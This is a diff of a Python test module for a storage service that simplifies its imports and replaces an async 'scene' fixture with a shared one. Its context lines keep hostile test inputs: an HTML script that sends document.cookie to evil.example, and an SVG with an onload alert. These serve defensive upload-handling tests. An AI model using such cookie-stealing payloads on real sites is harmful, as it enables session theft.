@@ -21,15 +21,11 @@ from storage_svc.application.backlog import OutputRef
 from storage_svc.application.store_output import LostNow, StoredNow
 from storage_svc.domain.commands import ReleaseQuarantined
 from tests.storage_process import Ended, run
-from tests.storage_scene import Scene, open_scene
 from tests.storage_world import now
 from velro.stack.seaweedfs import s3_client
 
 if TYPE_CHECKING:
-    from collections.abc import AsyncGenerator
-    from pathlib import Path
-
-    from velro.stack.seaweedfs import S3Address
+    from tests.storage_scene import Scene
 
 HTML = b"<!doctype html><script>fetch('https://evil.example/?'+document.cookie)</script>"
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>"
@@ -39,24 +35,8 @@ HOSTILE = pytest.mark.parametrize(
 
 
 @pytest.fixture
-async def scene(  # noqa: PLR0917 - pytest hands fixtures over by name
-    nats_url: str,
-    subject_root: str,
-    stream: str,
-    database: str,
-    bucket: S3Address,
-    tmp_path: Path,
-) -> AsyncGenerator[Scene]:
-    async with open_scene(
-        nats_url=nats_url,
-        subject_root=subject_root,
-        stream=stream,
-        database=database,
-        bucket=bucket,
-        spool=tmp_path,
-        projecting=True,
-    ) as opened:
-        yield opened
+def scene(projecting_scene: Scene) -> Scene:
+    return projecting_scene
 
 
 async def quarantined(
